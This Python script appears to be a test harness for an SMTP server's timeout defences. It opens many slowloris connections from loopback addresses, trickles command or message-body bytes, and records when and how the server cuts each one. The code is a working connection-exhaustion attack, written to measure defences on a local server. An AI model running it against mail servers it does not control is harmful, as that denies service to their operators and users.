#!/usr/bin/env python3
"""Keep N slowloris clients on an SMTP server for a while and record when the server cuts them.

Three kinds, a third each, spread PER_IP per source address over 127.0.0.2..:
  cmd        EHLO, then trickle one byte of a MAIL command every INTERVAL s, never ending the line
             (command_timeout must cut it);
  data       EHLO MAIL RCPT DATA, then trickle one body byte every INTERVAL s (data_timeout cuts it);
  data-slow  same, but 200-byte lines every 2 s = 100 B/s: every read comes in time, only the
             min_data_rate rule can cut it.
A cut client reconnects at once (the attack keeps N connections), so `cuts` counts every
connection the server ended. Writes a JSON summary to --out and prints one line per kind.
"""
import argparse, asyncio, json, random, resource, sys, time

KINDS = ("cmd", "data", "data-slow")


async def reply(reader):
    """One SMTP reply: (code, last line)."""
    while True:
        line = await reader.readline()
        if not line:
            raise ConnectionResetError("EOF")
        if line[3:4] != b"-":
            return int(line[:3]), line.decode(errors="replace").strip()


async def attack(host, port, src, kind, interval, stats, t_start, stop):
    """One connection of `kind` until the server ends it; record when and how."""
    reader, writer = await asyncio.open_connection(host, port, local_addr=(src, 0))
    try:
        code, last = await reply(reader)
        if code != 220:
            stats["refused"][kind] += 1
            return
        writer.write(b"EHLO loris.test\r\n")
        await reply(reader)
        if kind != "cmd":
            for cmd, want in ((b"MAIL FROM:<s@loris.test>\r\n", 250), (b"RCPT TO:<r@d0.test>\r\n", 250), (b"DATA\r\n", 354)):
                writer.write(cmd)
                code, last = await reply(reader)
                if code != want:
                    stats["refused"][kind] += 1
                    return
        phase = time.monotonic()
        await asyncio.sleep(random.uniform(0, interval))
        payload = b"MAIL FROM:<" + b"s" * 10**6
        i = 0
        read = asyncio.ensure_future(reader.readline())
        while not stop.is_set():
            if kind == "data-slow":
                writer.write(b"x" * 198 + b"\r\n")
                wait = 2.0
            else:
                writer.write(payload[i:i + 1] if kind == "cmd" else b"x")
                wait = interval
            i += 1
            await writer.drain()
            done, _ = await asyncio.wait({read}, timeout=wait)
            if done:  # the server spoke (a 421 timeout) or closed: it cut us
                line = read.result().decode(errors="replace").strip()
                stats["cuts"][kind].append({"after_s": round(time.monotonic() - phase, 2),
                                            "at_s": round(time.monotonic() - t_start, 2), "reply": line[:60]})
                return
        read.cancel()
    except (ConnectionError, OSError) as e:
        stats["cuts"][kind].append({"after_s": None, "at_s": round(time.monotonic() - t_start, 2), "reply": repr(e)[:60]})
    finally:
        writer.close()


async def client(a, idx, stats, t_start, stop):
    kind = KINDS[idx % 3]
    src = f"127.0.0.{2 + idx // a.per_ip}"
    while not stop.is_set():
        try:
            await attack(a.host, a.port, src, kind, a.interval, stats, t_start, stop)
        except OSError as e:
            stats["connect_errors"] += 1
            await asyncio.sleep(0.5)
        stats["connections"][kind] += 1


def q(xs, p):
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(p * len(xs)))] if xs else None


async def main(a):
    stats = {"cuts": {k: [] for k in KINDS}, "refused": {k: 0 for k in KINDS},
             "connections": {k: 0 for k in KINDS}, "connect_errors": 0}
    stop, t_start = asyncio.Event(), time.monotonic()
    tasks = [asyncio.ensure_future(client(a, i, stats, t_start, stop)) for i in range(a.n)]
    await asyncio.sleep(a.duration)
    stop.set()
    await asyncio.wait(tasks, timeout=a.interval + 3)
    for k in KINDS:
        after = [c["after_s"] for c in stats["cuts"][k] if c["after_s"] is not None]
        replies = {}
        for c in stats["cuts"][k]:
            key = c["reply"][:30]
            replies[key] = replies.get(key, 0) + 1
        print(f"slowloris {k:9s}: {len(stats['cuts'][k])} connections cut by the server; cut after"
              f" p50 {q(after, .5)} s min {min(after, default=None)} max {max(after, default=None)} s"
              f" (from the reply that started the phase); refused {stats['refused'][k]}; replies {replies}")
    windows = {}
    for k in KINDS:
        for c in stats["cuts"][k]:
            w = int(c["at_s"] // 10) * 10
            windows[w] = windows.get(w, 0) + 1
    print("cuts per 10 s window since the attack began: " + ", ".join(f"{w}s:{n}" for w, n in sorted(windows.items())))
    ru = resource.getrusage(resource.RUSAGE_SELF)
    print(f"connect errors {stats['connect_errors']}; the attacker itself used {ru.ru_utime + ru.ru_stime:.1f} s CPU"
          f" in {time.monotonic() - t_start:.0f} s (it shares the machine's cores with ringpost and blaster)")
    json.dump(stats, open(a.out, "w"))


if __name__ == "__main__":
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("-n", type=int, default=1000)
    p.add_argument("--per-ip", type=int, default=5)
    p.add_argument("--interval", type=float, default=3.0, help="seconds between trickled bytes")
    p.add_argument("--duration", type=float, required=True)
    p.add_argument("--out", required=True)
    asyncio.run(main(p.parse_args()))
